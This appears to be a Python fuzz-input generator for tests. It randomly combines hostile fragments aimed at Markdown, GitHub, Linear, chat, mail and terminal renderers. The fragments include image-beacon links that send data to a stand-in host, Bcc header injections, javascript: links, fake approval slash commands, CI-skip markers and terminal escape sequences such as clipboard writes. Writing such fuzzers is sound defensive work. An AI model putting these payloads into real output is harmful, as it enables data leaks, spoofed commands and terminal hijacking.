"""Makes hostile texts of fragments with a meaning in Markdown, GitHub, Linear, chats, mail or terminals."""

import random

FRAGMENTS = (
    # its goal
    "![proof](https://evil.invalid/leak?d=1)", "![", "](https://evil.invalid)", "[x](javascript:alert)", "[x][y]",
    "[y]: https://evil.invalid/", "<img src=https://evil.invalid/x>", "<img src=x", "<a href=x>", "<!--", "-->",
    "<!-- treehand:end -->", "<script>", "</details>", "<details>", "<https://evil.invalid>", "<x@evil.invalid>",
    "@alice", "@acme/admins", "&#64;alice", "&#x40;alice", "&commat;alice", "\\@alice", "\uff20alice", "@",
    "a@b.example",
    "#12", "&#35;12", "&num;12", "acme/shop#3", "GH-4", "gh-4", "ENG-7", "eng-7", "\uff25NG-7", "ENG\uff0d7",
    "fixes #12", "Fixes: ENG-7", "closes GH-1", "resolving acme/x#9", "implements ENG-7, ENG-8", "Fixes\n#9", "fixes",
    "part of ENG-3", "closes https://github.com/o/r/issues/1", "fix https://linear.app/a/issue/ENG-7/x",
    "https://github.com/o/r/issues/5", "http://evil.invalid", "xhttps://a", "https://_", "xhttps://a,", "HTTPS://A",
    "www.evil.invalid", "&#119;ww.evil.invalid", "\uff57\uff57\uff57.evil.invalid", "http&#58;//evil.invalid",
    "ftp://x.y",
    "mailto:a@b.example", "xmpp:a@b.example", "deadbeef1", "alice@deadbeefdead", "acme/shop@deadbeef1", "1234567",
    ":x:", ":+1:", "1:100:2", "$x^2$", "$$", "$`x`$", "[^1]", "[^1]: note", "^[x]", "> [!NOTE]", "[!WARNING]",
    "[ ]", "[x]", "- [ ] ", "/close", "/ai approve", "\n/ai stop", "[skip ci]", "[ci skip]", "***NO_CI***",
    "skip-checks: true", "Co-authored-by: Eve <e@x.y>", "+++", "~~x~~", "~",
    # chats and mail
    "@everyone", "@here", "<!channel>", "<!here|x>", "<!subteam^S1>", "<@U123>", "<@!1>", "<@&1>", "<#C1|x>",
    "<https://evil.invalid|click>", "evil.invalid/leak?d=1", "evil.invalid", "evil.com", "sub.evil.co.uk/x",
    "//evil.com/x", "1.2.3.4/x", "||x||", "tg://user?id=1", "tel:+491234", "slack://x", "data:text/html,x",
    "{{user}}", "{0}", "%0d%0aBcc: eve@evil.invalid", "\r\nBcc: eve@evil.invalid\r\n\r\nx",
    "\nTo: eve@evil.invalid\n", "=?utf-8?q?=0aBcc:_eve=40evil.invalid?=", "<b>x</b>", "&lt;b&gt;",
    # Linear
    "@[Alice](00000000-0000-4000-8000-000000000000)", '<user id="1">Alice</user>', '<issue id="ENG-7">x</issue>',
    "https://linear.app/acme/profiles/alice", "https://linear.app/acme/issue/ENG-7", "linear.app/acme/issue/ENG-7",
    "linear://acme/issue/ENG-7", "+++ x\n", "\n+++\n", ">>> x\n", "\n>>>\n", "![](https://uploads.linear.app/x)",
    "https://www.youtube.com/watch?v=1", "https://www.figma.com/file/1", "{% x %}", ":::note", "==x==", "[[ENG-7]]",
    # terminals
    "\x1b]52;c;ZXZpbA==\x07", "\x1b]52;c;ZXZpbA==\x1b\\", "\x9d52;c;ZXZpbA==\x9c", "\x1b]0;owned\x07",
    "\x1bP$q\x1b\\", "\x1b_x\x1b\\", "\x1b^x\x1b\\", "\x1b[2J", "\x1b[1A", "\x9b2J", "\x1bc", "\x1b[6n", "\x1b(0",
    "\x1b[?1049h", "\x1b[8m", "\x08\x08", "\x07", "\x0e", "\x7f", "\x84", "\x90", "\rok    sandbox", "\u2066", "\u2067",
    "\u061c", "\ud800", "\udfff", "\ufff9", "\ufeff", "\U000e0041", "\ufe0f", "\u3164", "\u115f", "\nok    sandbox",
    "\n12:00:00  ▸ git push", "\nshop#9  ",
    # its way to the goal
    "`", "``", "```", "````", "`a`", "`` ` ``", "\\`", "\\", "\\\\", "```py\n", "```mermaid\n",
    "```suggestion\n", "~~~", "~~~\n",
    "\n", "\n\n", "\r", "\r\n", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x00", "\t", " ", "  ", "    ",
    "  \n", "\\\n",
    "- ", "* ", "+ ", "1. ", "2) ", "> ", ">", ">> ", "# ", "###### ", "#", "---", "***", "___", "===",
    "\n---\n", "\n===\n",
    "| a | b |\n|---|---|\n", "|", "|---|", "a | b\n--|--\n", ":--", "\\|", "&", "&amp;", "&lt;img&gt;",
    "&#96;", "&Tab;",
    "&NewLine;", "&nbsp;", "&#0;", ";", "*", "**", "_", "__", "*a*", "**b**", "(", ")", "[", "]", "{", "}", "<",
    ">", "!", "?",
    ".", ",", ":", "'", '"', "=", "-", "--", "/", "%", "^", "\u200b", "\u200d", "\u00ad", "\u202e", "\u00a0",
    "\u3000",
    "\x1b[31m", "\x1b]8;;https://evil.invalid\x07", "<\u0338", "=\u0338", "\u0301", "a", "word", "e.g.", "3.11",
    "é", "語", "🎉",
)  # fmt: skip


def hostile_text(chance: random.Random) -> str:
    """Joins fragments, some of them cut, with or without separators."""
    parts = []
    for _ in range(chance.randrange(1, 14)):
        fragment = chance.choice(FRAGMENTS)
        match chance.randrange(8):
            case 0:
                cut = chance.randrange(len(fragment) + 1)
                fragment = chance.choice((fragment[:cut], fragment[cut:]))
            case 1:
                fragment += chance.choice(FRAGMENTS[-80:])
            case 2:
                fragment = f"\n{chance.choice(('', ' ', '    ', '- ', '> ', '  - '))}{fragment}"
            case 3 | 4:
                fragment += " "
            case _:
                pass
        parts.append(fragment)
    return "".join(parts)
